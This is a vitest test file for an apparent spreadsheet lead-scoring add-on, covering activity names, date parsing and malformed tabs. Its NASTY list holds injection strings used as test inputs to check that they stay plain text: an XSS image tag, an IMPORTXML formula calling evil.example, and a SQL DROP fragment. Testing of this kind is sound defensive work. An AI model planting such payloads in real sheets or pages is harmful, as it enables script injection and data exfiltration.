import { describe, expect, test } from 'vitest';
import type { Cells, CellValue } from '../../src/core/table/cell.ts';
import { openAddon } from '../addon/open-addon.ts';
import { countingTab } from '../core/scoring/activities/score-with-activities.ts';

const LEADS: Cells = [
  ['Email', 'Plan'],
  ['ann@acme.com', 'pro'],
  ['bob@acme.com', 'free'],
];
const NASTY = [
  '<img src=x onerror=alert(1)>',
  '=IMPORTXML("https://evil.example","//a")',
  '🚀 Launch',
  '+1+1',
  '#REF!',
  "'; DROP",
];

/** Scores Ann and Bob by a log, and gives scores, texts of Why and the codes of what was warned of. */
function score(
  log: Cells,
  scoring: Cells = countingTab({ Criterion: 'Any', Activity: '*', Counting: 'each', Points: 1 }),
) {
  const addon = openAddon({ Leads: LEADS, Scoring: scoring, Activities: log });
  const report = addon.score();
  const rows = addon.values('Leads');
  const place = (name: string): number => rows[0]?.indexOf(name) ?? -1;
  return {
    status: report.status,
    codes: report.issues.map(({ code }) => code),
    messages: report.issues.map(({ message }) => message),
    scores: rows.slice(1, 3).map((row) => row[place('Lead score')]),
    why: rows.slice(1, 3).map((row) => row[place('Why')]),
    formulas: addon.sheet('Leads').getDataRange().getFormulas().flat().join(''),
  };
}
const row = (activity: CellValue, date: CellValue = '2024-03-01', email = 'ann@acme.com'): CellValue[] => [
  email,
  activity,
  date,
];
const HEADERS: CellValue[] = ['Email', 'Event', 'Date'];

describe('names of activities that look like something else', () => {
  test.each(NASTY.filter((name) => name !== '#REF!'))(
    '%s is a name: counted, shown as text, never a formula',
    (name) => {
      const quoted = `"${name.replaceAll('"', '""')}"`;
      const scoring = countingTab({ Activity: quoted, Counting: 'each', Points: 2 });
      const result = score([HEADERS, row(name), row(name, '2024-03-02')], scoring);
      expect([result.status, result.scores]).toEqual(['done', [4, 0]]);
      expect(result.why[0]).toContain(name.slice(0, 6));
      expect(result.formulas).toBe('');
    },
  );

  test('an error value is an activity without a name, which * counts', () => {
    expect(score([HEADERS, row('#REF!')]).scores).toEqual([1, 0]);
  });

  test('as keys of nobody they are told as text', () => {
    const { codes, messages } = score([HEADERS, ...NASTY.map((name) => row('Visit', '2024-03-01', name))]);
    expect(codes).toContain('activities-of-unknown-leads');
    expect(messages.join()).toContain('“<img src=x onerror=alert(1)>”');
  });
});

describe('dates of all kinds in one column', () => {
  test('are each read by their own looks', () => {
    const dates = [
      '2024-03-01',
      '3/2/2024',
      '4 Mar 2024',
      20240301,
      '20240302',
      1709285400,
      '1709285400000',
      '2024-03-01T23:59:59Z',
      'Mar 5, 2024 1:00 AM',
    ];
    const { scores, codes } = score([HEADERS, ...dates.map((date) => row('Visit', date))]);
    expect(scores).toEqual([dates.length, 0]);
    expect(codes).not.toContain('activities-without-date');
  });

  test('what is none is counted and named: errors, formulas as text, years alone, 30 February', () => {
    const { scores, messages } = score([
      HEADERS,
      row('Visit'),
      ...['#N/A', '=TODAY()', 2024, '2024-02-30', '99999999'].map((date) => row('Visit', date)),
    ]);
    expect(scores).toEqual([1, 0]);
    expect(messages.join()).toContain(
      '5 activities have no date that can be read, such as “#N/A”, “=TODAY()”, “2024”, and do not count.',
    );
  });

  test('still to come are counted and do not count', () => {
    const { scores, codes } = score([HEADERS, row('Visit', '2030-01-01'), row('Visit', '2024-03-06')]);
    expect([scores, codes.includes('activities-to-come')]).toEqual([[0, 0], true]);
  });
});

describe('tabs that are not as they should be', () => {
  test('an empty one and one without dates stop the run with one sentence at the tab', () => {
    expect(score([['']])).toMatchObject({
      status: 'errors',
      messages: ['The tab Activities is empty. Its first row needs headers: lead key, activity, date.'],
    });
    expect(
      score([
        ['Email', 'Event'],
        ['ann@acme.com', 'Visit'],
      ]),
    ).toMatchObject({ status: 'errors', codes: ['unreadable-activities'] });
  });

  test('none at all stops it at the Activity cell', () => {
    const addon = openAddon({ Leads: LEADS, Scoring: countingTab({ Activity: '*', Points: 1 }) });
    expect(addon.score().issues.map(({ cell, code }) => `${code} ${cell}`)).toEqual([
      'no-activities Scoring!B3',
    ]);
  });

  test('headers only score all leads at nothing, with a warning', () => {
    expect(score([HEADERS])).toMatchObject({ status: 'done', scores: [0, 0] });
    expect(score([HEADERS]).codes).toContain('no-activity-rows');
  });

  test('two columns of one header, a banner above, keys in other letters and spaces', () => {
    const log: Cells = [
      ['Export of 5 March', '', '', '', ''],
      ['Email', 'Event', 'Date', 'Event', 'Date'],
      ['  ANN@Acme.com', 'Visit', '2024-03-01', 'x', ''],
      ['ann@acme.com', 'Visit', '2024-03-02', 'y', ''],
    ];
    expect(score(log).scores).toEqual([2, 0]);
  });

  test('a setting that names a tab which is not there is told at the setting, with did you mean', () => {
    const scoring = countingTab({ Activity: '*', Points: 1 }).map((cells) =>
      cells.map((cell) => (cell === 'As of' ? 'Activities tab' : cell === '2024-03-05' ? 'Activites' : cell)),
    );
    expect(score([HEADERS, row('Visit')], scoring).messages).toEqual([
      'There is no tab “Activites” with activities. Did you mean “Activities”?',
    ]);
  });
});
